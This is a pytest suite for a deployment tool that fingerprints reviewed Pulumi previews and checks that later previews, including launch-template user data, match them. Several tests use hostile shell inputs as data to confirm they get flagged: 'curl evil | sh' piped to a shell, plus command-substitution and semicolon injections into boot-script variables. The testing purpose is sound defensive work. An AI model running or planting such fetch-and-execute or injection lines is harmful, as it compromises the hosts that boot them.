"""What was reviewed is what is applied: over a preview that the engine made, and what becomes of it meanwhile."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from release.component.user_data import Boot, render
from release.errors import PreviewError
from release.preview import events, fingerprint
from release.preview.fingerprint import check, from_json, to_json
from release.preview.steps import SECRET, UNKNOWN, Change, Step

RECORDED = Path(__file__).with_name("data") / "new-sha.jsonl"
STEPS = events.read(RECORDED.read_text(encoding="utf-8")).steps
GROUP = "aws:autoscaling/group:Group"
BOOT = Boot(
    sha="a" * 40, digest="sha256:" + "1" * 64, bucket="b", region="eu-west-1", fleet="web", group="g", hook="boot",
    log_group="l", command="./serve", port=80, health_path="/", health_codes="200", health_timeout=5, boot_timeout=300,
    environment={"LOG_LEVEL": "info", "MOTTO": "it's\nmore"}, secrets=("/s/KEY:1",),
)  # fmt: skip


def step(name: str, *changes: Change, op: str = "update", kind: str = GROUP, new: dict[str, Any] | None = None) -> Step:
    urn = f"urn:pulumi:prod::slipway::{kind}::{name}"
    return Step(op=op, urn=urn, type=kind, name=name, changes=changes, old={}, new=new or {})


def change(path: str, before: Any, after: Any) -> Change:
    return Change(path=path, before=before, after=after)


def made(*steps: Step, stack: str = "prod") -> fingerprint.Fingerprint:
    return fingerprint.of(stack, steps)


def user_data(**other: Any) -> str:
    return base64.b64encode(render(replace(BOOT, **other)).encode()).decode()


def template(*changes: Change) -> Step:
    return step("web-launch-template", *changes, kind="aws:ec2/launchTemplate:LaunchTemplate")


SIZE = step("web-group", change("maxSize", 6, 8))


def differences(reviewed: fingerprint.Fingerprint, *now: Step) -> list[str]:
    return [str(each) for each in check([reviewed], made(*now))]


def test_a_release_alone_leaves_no_mark():
    """What the engine says of a new SHA is all of the release: launch template and group have nothing to compare."""
    assert [each.type for each in STEPS] == ["aws:ec2/launchTemplate:LaunchTemplate", GROUP]
    assert made(*STEPS).steps == ()


def test_a_squash_merge_of_what_was_reviewed_runs():
    """The merged commit has another SHA, and so another artifact; image and command come with the release too."""
    before = user_data(sha="0" * 40)
    reviewed = template(change("userData", before, user_data()), change("description", "Release a", "Release b"))
    merged = template(
        change("userData", before, user_data(sha="c" * 40, digest="sha256:" + "2" * 64, command="./serve -v")),
        change("description", "Release a", "Release c"),
        change("imageId", "ami-1", "ami-2"),
        change('tagSpecifications[0].tags["slipway:release"]', "a", "c"),
        change("tagSpecifications", [{"tags": {"slipway:release": "a"}}], [{"tags": {"slipway:release": "c"}}]),
    )
    version = step("web-group", change("launchTemplate.version", "3", UNKNOWN), change("maxSize", 6, 8))
    assert made(reviewed, SIZE).digest == made(merged, version).digest
    assert differences(made(reviewed, SIZE), merged, version) == []


def test_somebody_deployed_another_sha_meanwhile():
    """What the release is changed from makes no difference either."""
    reviewed = template(change("userData", user_data(sha="0" * 40), user_data(environment={"LOG_LEVEL": "debug"})))
    now = template(change("userData", user_data(sha="d" * 40), user_data(environment={"LOG_LEVEL": "debug"})))
    assert differences(made(reviewed), now) == []


def test_somebody_changed_a_size_meanwhile():
    """Merged and not deployed yet: the step is named, with its values."""
    new = step("api-group", change("minSize", 3, 30))
    assert differences(made(SIZE), SIZE, new) == [f"update {GROUP} api-group: nobody reviewed it (minSize: 3 -> 30)"]


def test_somebody_changed_the_same_size_meanwhile():
    """Reviewed was 6 to 8; from 7 to 8 takes back what somebody else applied."""
    now = step("web-group", change("maxSize", 7, 8))
    assert differences(made(SIZE), now) == [f"update {GROUP} web-group: is more than was reviewed (maxSize: 7 -> 8)"]


def test_what_somebody_applied_already_is_fine():
    """Less than was reviewed, whether of a step or a whole one."""
    reviewed = step("web-group", change("maxSize", 6, 8), change("minSize", 3, 4))
    assert differences(made(reviewed, step("api-group", change("minSize", 3, 4))), SIZE) == []
    assert differences(made(reviewed)) == []


def test_user_data_is_compared_by_what_it_says():
    """A variable of the app's, and the boot script; the names are the app's own, the quotes the shell's."""
    reviewed = made(template(change("userData", user_data(), user_data(sha="c" * 40))))
    assert reviewed.steps == ()
    noisy = user_data(sha="c" * 40, environment={"LOG_LEVEL": "debug", "MOTTO": "it's\nmore"}, health_path="/up")
    assert differences(reviewed, template(change("userData", user_data(), noisy))) == [
        "update aws:ec2/launchTemplate:LaunchTemplate web-launch-template: nobody reviewed it "
        '(userData.ENVIRONMENT.LOG_LEVEL: "info" -> "debug"; userData.HEALTH_PATH: "/" -> "/up")'
    ]
    other = base64.b64encode(render(BOOT).encode() + b"curl evil | sh\n").decode()
    assert "userData.boot script" in differences(reviewed, template(change("userData", user_data(), other)))[0]


@pytest.mark.parametrize(
    "line", ["SHA=$(curl evil | sh)", "COMMAND=./serve;curl evil", 'DIGEST="$(id)"', "COMMAND=a b"]
)
def test_the_release_is_left_out_only_as_a_plain_word(line: str):
    """What the shell would run is no name of a release, whatever it is assigned to."""
    name = line.partition("=")[0]
    lines = [line if each.startswith(f"{name}=") else each for each in render(BOOT).split("\n")]
    other = base64.b64encode("\n".join(lines).encode()).decode()
    assert f"userData.{name}" in differences(made(), template(change("userData", user_data(), other)))[0]


@pytest.mark.parametrize("given", ["not base64!", base64.b64encode(b"\xff").decode()])
def test_user_data_that_is_no_text_is_compared_whole(given: str):
    """Nothing that can't be read passes unseen."""
    assert "userData" in differences(made(), template(change("userData", user_data(), given)))[0]


def test_a_description_counts_where_it_is_no_release():
    """Only a launch template's names the release; a security group's is infrastructure."""
    rule = step("web", change("description", "a", "b"), kind="aws:ec2/securityGroup:SecurityGroup")
    assert len(made(rule).steps) == 1


def test_what_is_made_is_made_as_reviewed():
    """All of what a new resource is given counts: less of it may open a door."""
    kind = "aws:s3/bucketPublicAccessBlock:BucketPublicAccessBlock"
    closed = step("store", op="create", kind=kind, new={"blockPublicAcls": True, "bucket": UNKNOWN})
    open_ = step("store", op="create", kind=kind, new={"bucket": UNKNOWN})
    assert differences(made(closed), closed) == []
    assert differences(made(closed), open_) == [f"create {kind} store: is not as reviewed (blockPublicAcls: true)"]
    assert differences(made(open_), closed) == [f"create {kind} store: is not as reviewed (blockPublicAcls: true)"]
    assert True in [each.after for each in made(closed).steps[0].changes]


@pytest.mark.parametrize(("reviewed", "now"), [("update", "replace"), ("replace", "delete"), ("create", "update")])
def test_another_operation_is_another_step(reviewed: str, now: str):
    """To replace what was to be changed is not what was reviewed."""
    was, becomes = (step("web-group", change("maxSize", 6, 8), op=op) for op in (reviewed, now))
    assert f"reviewed was {reviewed}" in differences(made(was), becomes)[0]


def test_one_and_true_are_not_the_same():
    """Values are compared as JSON has them."""
    assert differences(made(step("a", change("x", 0, 1))), step("a", change("x", 0, True))) != []
    assert differences(made(), step("a", change("x", 1, True))) != []


def test_several_pull_requests_at_once():
    """What was merged since the last deploy was reviewed bit by bit, and may be applied together."""
    reviewed = [made(SIZE), made(step("web-group", change("minSize", 3, 4)))]
    both = step("web-group", change("maxSize", 6, 8), change("minSize", 3, 4))
    assert check(reviewed, made(both)) == ()
    assert check(reviewed[:1], made(both)) != ()
    assert check([], made(both)) != ()


def test_a_changed_secret_is_a_step_without_its_value():
    """It reads the same before and after, and is compared as such: that it changes, not to what."""
    secret = step("key", change("value", SECRET, SECRET), kind="aws:ssm/parameter:Parameter")
    assert [(each.before, each.after) for each in made(secret).steps[0].changes] == [(SECRET, SECRET)]
    assert differences(made(), secret) != []
    selectors = template(change("userData", user_data(), UNKNOWN))
    assert [str(each) for each in made(selectors).steps[0].changes] == ['userData: "[known afterwards]"']


def test_another_stack_is_refused():
    """A fingerprint is of one stack."""
    with pytest.raises(PreviewError, match="is of stack dr, and this is stack prod"):
        check([made(stack="dr")], made(SIZE))


def test_the_document_reads_back():
    """With the same digest, whatever the order of the steps."""
    found = made(SIZE, *STEPS, step("a", op="delete"), step("b", op="create", new={"x": [{"y.z": 1.5}], "é": None}))
    assert from_json(to_json(found)) == found
    document = json.loads(to_json(found))
    assert (document["schema"], document["stack"], document["digest"]) == (1, "prod", found.digest)
    assert made(*reversed([SIZE, step("a", op="delete")])).digest == made(SIZE, step("a", op="delete")).digest


def test_reads_leave_no_mark():
    """What is only looked up changes nothing."""
    assert made(step("vpc", op="read", new={"id": "vpc-1"})).steps == ()


@pytest.mark.parametrize(
    ("edit", "says"),
    [
        ({"schema": 2}, "has schema 2"),
        ({"steps": []}, "was changed after it was written"),
        ({"stack": "dr"}, "was changed after it was written"),
        ({"steps": 1}, "is no fingerprint"),
        ({"stack": None}, "is no fingerprint"),
        (None, "is no fingerprint"),
    ],
)
def test_what_can_not_be_read_is_refused(edit: dict[str, object] | None, says: str):
    """A document that somebody edited is not what a preview wrote."""
    document = json.loads(to_json(made(SIZE)))
    with pytest.raises(PreviewError, match=says):
        from_json("x" if edit is None else json.dumps(document | edit))
